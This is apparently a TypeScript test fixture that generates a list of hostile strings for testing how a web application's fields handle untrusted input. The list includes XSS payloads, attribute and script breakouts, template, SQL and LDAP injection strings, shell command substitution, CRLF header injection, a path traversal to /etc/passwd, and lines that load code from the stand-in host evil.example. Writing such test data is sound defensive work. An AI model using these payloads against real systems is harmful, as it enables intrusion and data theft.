/** Markup that runs a script, loads something or changes the page if it is ever treated as markup. */
const markup = [
  '<script>alert(1)</script>',
  '<ScRiPt >alert(1)</sCrIpT>',
  '<script src=//evil.example/x></script>',
  '<script type=module>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;>',
  '<a href=javascript:alert(1)>click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<details open ontoggle=alert(1)>',
  '<video src=x onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<form action=javascript:alert(1)><button>',
  '<math><a xlink:href=javascript:alert(1)>x',
  '<style>*{display:none}</style>',
  '<style>@import"//evil.example/x";</style>',
  '<link rel=stylesheet href=//evil.example/x>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0;//evil.example>',
  '<template><script>alert(1)</script></template>',
  '<xss id=x tabindex=1 onfocus=alert(1)>',
];

/** Text that ends the current context, to be put before markup. */
const breakouts = ['', '"> ', "'> ", '</script>', '</title>', '</textarea>', '--> ', ']]> '];

/** All other texts that some layer has treated as more than text. */
const others = [
  // For breaking out of attributes and scripts.
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '` onmouseover=`alert(1)',
  '" autofocus onfocus=alert(1) x="',
  '"};alert(1);//',
  "'};alert(1);//",
  '\\"};alert(1);//',
  '</script',
  '<!--<script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?>',
  '<!DOCTYPE x [<!ENTITY a "b">]>&a;',
  // URLs.
  'javascript:alert(1)',
  'JaVa\tScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/%2e%2e',
  '../../../../etc/passwd',
  'mailto:a@b.example?bcc=c@d.example',
  // Templates and formats.
  '{{7*7}}',
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{% raw %}',
  '{name}',
  '{count, plural, other {x}}',
  "'{'",
  '%s%n%d',
  '%00%0d%0a',
  '$1 $& $$',
  'profile.title',
  // Encodings of markup.
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '＜script＞alert(1)＜/script＞',
  '‹script›alert(1)‹/script›',
  // Characters.
  'a\u2028alert(1)\u2029b',
  'nul\u0000byte',
  'a\u0001\u0008\u000b\u001bb',
  'a\u0085\u00a0b',
  'a\ufeffb',
  '\ud800 half a pair',
  'half a pair \udc00',
  '\udfff\ud800 turned around',
  '\u202egnp.exe',
  '\u2066\u202e\u2069\u202c isolated',
  '‏مربية أطفال‏',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a\u0342l\u0334g\u0321o',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'ﬁﬂ ǅ ß İ ı',
  '\u200b\u200c\u200d\u2060x',
  '\ue000\uffff\ufdd0',
  '\u{e0001}\u{e0020}x',
  'W'.repeat(60),
  '护'.repeat(60),
  '-'.repeat(60),
  'á'.normalize('NFD').repeat(30),
  // Style sheets.
  'expression(alert(1))',
  'url(javascript:alert(1))',
  '";}*{display:none}/*',
  // Quotes of other languages.
  "'; DROP TABLE profiles; --",
  '" OR ""="',
  '") OR words : "*',
  'NEAR(a b) AND NOT (c',
  '=HYPERLINK("//evil.example")',
  '@SUM(1+1)*cmd|/C calc',
  '$(touch x)`touch x`',
  '*)(uid=*))(|(uid=*',
  'x\r\nSet-Cookie: a=b',
  'x\n.\nMAIL FROM:<a@b.example>',
  // Words with a meaning in programs.
  '__proto__',
  'constructor',
  'toString',
  'undefined',
  'null',
  'NaN',
  'true',
  '-1',
  '1e309',
  '[object Object]',
];

/**
 * More than 300 texts that have broken pages, all different and at most 60 UTF-16 units long, so that every field accepts them.
 */
export function hostileTexts(): string[] {
  const broken = breakouts.flatMap((breakout) => markup.map((element) => breakout + element));
  return [...others, ...broken].filter((text) => text.length <= 60);
}

/**
 * Texts that end each context in which a text may be, and single characters or words that have caused damage elsewhere: for tests
 * that open a page.
 */
const chosen = new Set([
  '<script>alert(1)</script>',
  '<svg/onload=alert(1)//',
  '<img src=x onerror="alert(1)">',
  '<iframe src=javascript:alert(1)>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<style>*{display:none}</style>',
  '<base href=//evil.example/>',
  '<template><script>alert(1)</script></template>',
  '"> <img src=x onerror=alert(1)>',
  "'> <svg onload=alert(1)>",
  '</script><script>alert(1)</script>',
  '</title><svg onload=alert(1)>',
  '</textarea><img src=x onerror=alert(1)>',
  '--> <script>alert(1)</script>',
  '" onmouseover="alert(1)',
  '" autofocus onfocus=alert(1) x="',
  '"};alert(1);//',
  '<!--<script>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
  '{count, plural, other {x}}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  'a\u2028alert(1)\u2029b',
  'nul\u0000byte',
  '\ud800 half a pair',
  'x\r\nSet-Cookie: a=b',
  '__proto__',
]);

/** The texts for tests in a browser: 30 of them, or `all`. */
export function textsForBrowsers(all: boolean): string[] {
  return hostileTexts().filter((text) => all || chosen.has(text));
}

/** The part of a text that a name may contain. */
export function nameOf(text: string): string {
  const letters = text.replace(/[^\p{L}\p{M} '’·()-]/gu, '').slice(0, 80);
  return /\p{L}/u.test(letters) ? letters : 'Ana';
}
